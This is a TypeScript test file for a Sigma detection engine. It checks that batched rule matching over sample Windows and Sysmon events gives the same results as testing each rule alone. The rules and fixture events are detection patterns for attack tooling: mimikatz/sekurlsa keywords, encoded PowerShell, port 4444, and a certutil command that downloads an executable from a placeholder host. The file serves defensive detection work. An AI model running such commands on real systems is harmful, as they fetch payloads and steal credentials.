import { describe, expect, it, vi } from 'vitest';
import type { ResultRow, ViewEvent } from '../../../../detections/engines/types.ts';
import type { SigmaCompiledRule } from '../../../../detections/engines/sigma/compiled-rule.ts';
import { T } from '../../../../detections/engines/sigma/logic.ts';
import { SigmaRuleSet } from '../../../../detections/engines/sigma/rule-set.ts';
import { sigmaEngine } from '../../../../detections/engines/sigma/index.ts';
import { ID, rule, ruleText } from './helpers.ts';

const PC = '{category: process_creation, product: windows}';
const NET = '{category: network_connection, product: windows}';
const sel = (body: string, condition = 'sel') => `    sel:\n${body}\n    condition: ${condition}`;

/** a rule with a filter document (meta rule) that removes computers named DC* */
const filtered = sigmaEngine.compile(
  ruleText(sel(`        Image|endswith: '\\svchost.exe'`), PC) +
    `---\ntitle: not on DCs\nlogsource: {product: windows}\nfilter:\n    rules: [${ID}]\n    dc:\n        Computer|startswith: 'DC'\n    condition: not dc\n`,
  { file: 'filtered.yml' },
);

const rules: SigmaCompiledRule[] = [
  filtered,
  rule(sel(`        Image|endswith: '\\cmd.exe'\n        CommandLine|contains: ' /c '`), PC),
  rule(sel(`        CommandLine|windash|contains: ' -enc '`), PC),
  rule(`    sel:\n        Image|endswith: '\\powershell.exe'\n    filter:\n        ParentImage|endswith: '\\explorer.exe'\n    condition: sel and not filter`, PC),
  rule(sel(`        IntegrityLevel: 'High'\n        Image|contains: 'Temp'`), PC), // 4688: MandatoryLabel SID through the values table
  rule(sel(`        CommandLine|re: 'whoami\\s+/all'`), PC),
  rule(sel(`        CommandLine|re|i: 'WHOAMI'`), PC),
  rule(sel(`        CommandLine|contains|cased: 'Write-Host'`), PC),
  rule(sel(`        CommandLine|contains|all: ['-urlcache', 'http']`), PC),
  rule(sel(`        Image|endswith: '\\rundll32.exe'\n        CommandLine|endswith: '.dll'`, 'not sel'), PC),
  rule(sel(`        ParentCommandLine|contains: 'msiexec'`), PC), // unknown on 4688 (only_mapped)
  rule(sel(`        DestinationPort: 4444`), NET),
  rule(sel(`        DestinationIp|cidr: '203.0.113.0/24'`), NET),
  rule(`    keywords:\n        - 'mimikatz'\n        - 'sekurlsa'\n    condition: keywords`),
  rule(sel(`        Image|endswith: '.exe'\n        Image|fieldref: ParentImage`), PC),
  rule(sel(`        CommandLine: '*http*://*/*.exe'`), PC),
  rule(`    a:\n        Image|endswith: '\\certutil.exe'\n    b:\n        CommandLine|contains: 'decode'\n    condition:\n        - a\n        - b`, PC),
];

const sysmon = (Image: string, CommandLine: string, ParentImage = 'C:\\Windows\\explorer.exe', extra: ViewEvent = {}): ViewEvent => ({
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventID: '1',
  Image,
  CommandLine,
  ParentImage,
  ParentCommandLine: `"${ParentImage}"`,
  IntegrityLevel: 'Medium',
  ...extra,
});

const events: ViewEvent[] = [
  sysmon('C:\\Windows\\System32\\svchost.exe', 'svchost -k netsvcs', undefined, { Computer: 'WS1' }),
  sysmon('C:\\Windows\\System32\\svchost.exe', 'svchost -k netsvcs', undefined, { Computer: 'DC1' }),
  sysmon('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all'),
  sysmon('C:\\Windows\\System32\\CMD.EXE', 'CMD.EXE /C WHOAMI'),
  sysmon('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell \u2014enc SQBFAFgA', 'C:\\Windows\\System32\\cmd.exe'),
  sysmon('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -nop -Command Write-Host ok'),
  sysmon('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -nop -Command write-host ok', 'C:\\Windows\\System32\\msiexec.exe', { ParentCommandLine: 'C:\\Windows\\System32\\msiexec.exe -Embedding 1' }),
  sysmon('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -split -f http://203.0.113.7/a.exe'),
  sysmon('C:\\Windows\\System32\\certutil.exe', 'certutil -decode a b'),
  sysmon('C:\\Windows\\System32\\rundll32.exe', 'rundll32 shell32.dll,Control_RunDLL'),
  sysmon('C:\\Windows\\System32\\rundll32.exe', 'rundll32 C:\\x.dll'),
  sysmon('C:\\Users\\a\\AppData\\Local\\Temp\\x.exe', 'x.exe', 'C:\\Users\\a\\AppData\\Local\\Temp\\x.exe', { IntegrityLevel: 'High' }),
  { Channel: 'Security', EventID: 4688, NewProcessName: 'C:\\Temp\\x.exe', CommandLine: 'x.exe /c sekurlsa', MandatoryLabel: 'S-1-16-12288', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe' },
  { Channel: 'Security', EventID: 4688, NewProcessName: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c echo', MandatoryLabel: 'S-1-16-8192' },
  { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 3, DestinationIp: '203.0.113.9', DestinationPort: 4444, Image: 'C:\\x\\cmd.exe', CommandLine: ' /c ' },
  { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 3, DestinationIp: '198.51.100.1', DestinationPort: '443' },
  { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c Invoke-Mimikatz', DestinationPort: 4444 }, // no log-source fields: every rule sees it
  { Channel: 'Linux-Sysmon/Operational', EventID: 1, Image: '/usr/bin/cmd.exe', CommandLine: 'sh /c whoami' },
  { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Image: ['C:\\a\\cmd.exe', 'C:\\b\\x.exe'], CommandLine: ['a /c b', null] },
  {},
];

/** the single-rule path: rule indices whose testContext is true, in rule order */
function oneByOne(e: ViewEvent): number[] {
  return rules.flatMap((r, i) => (r.test(e) === T ? [i] : []));
}

describe('SigmaRuleSet: many rules in one pass, same matches as each rule alone', () => {
  it('matches every event exactly as testing each rule in turn (log sources, 4688 mapping, keywords, regex, cased, all, not, fieldref, cidr, condition lists, multivalue)', () => {
    expect(filtered.filters).toHaveLength(1);
    const set = new SigmaRuleSet(rules);
    const got = events.map((e) => set.match({ ...e }));
    const want = events.map((e) => oneByOne({ ...e }));
    expect(got).toEqual(want);
    // every rule matches some event and misses others: a check that cannot pass on empty results
    expect(new Set(want.flat()).size).toBe(rules.length);
  });

  it('groups rules by log source and counts the rules its prefilter cannot narrow', () => {
    const set = new SigmaRuleSet(rules);
    expect(set.stats).toMatchObject({ rules: rules.length, groups: 3 });
    // `not sel`, cased and cidr give no necessary literal: evaluated whenever their log source applies
    expect(set.stats.unfiltered).toBe(3);
  });

  it('does not evaluate a rule when the event lacks every literal of one of its clauses, or its log source differs', () => {
    const r = rule(sel(`        Image|endswith: '\\cmd.exe'\n        CommandLine|contains: 'whoami'`), PC);
    const spy = vi.spyOn(r, 'testContext');
    const set = new SigmaRuleSet([r]);
    expect(set.match(sysmon('C:\\Windows\\System32\\cmd.exe', 'cmd /c dir'))).toEqual([]);
    expect(set.match({ ...sysmon('C:\\Windows\\System32\\cmd.exe', 'whoami'), EventID: '3' })).toEqual([]);
    expect(spy).not.toHaveBeenCalled();
    expect(set.match(sysmon('C:\\Windows\\System32\\cmd.exe', 'WhoAmI /all'))).toEqual([0]);
    expect(spy).toHaveBeenCalledTimes(1);
  });

  it('keeps matching after 2^31 - 1 events (the Int32 hit stamps start again instead of wrapping)', () => {
    const set = new SigmaRuleSet(rules);
    (set as unknown as { hits: { gen: number } }).hits.gen = 0x7fffffff - 1;
    for (let k = 0; k < 3; k++) expect(set.match({ ...events[2]! })).toEqual(oneByOne({ ...events[2]! }));
    expect(oneByOne(events[2]!).length).toBeGreaterThan(0);
  });

  it('evaluate() yields for each match the row the rule alone yields, in event order then rule order', async () => {
    const set = new SigmaRuleSet(rules);
    const got: { ruleIndex: number; eventIndex: number; row: ResultRow }[] = [];
    for await (const m of set.evaluate(events)) got.push({ ruleIndex: m.ruleIndex, eventIndex: m.eventIndex, row: m.row });
    const want: typeof got = [];
    for (let i = 0; i < events.length; i++) {
      for (let r = 0; r < rules.length; r++) {
        for await (const row of rules[r]!.evaluate([events[i]!])) want.push({ ruleIndex: r, eventIndex: i, row });
      }
    }
    expect(got).toEqual(want);
    expect(got.length).toBeGreaterThan(10);
  });
});
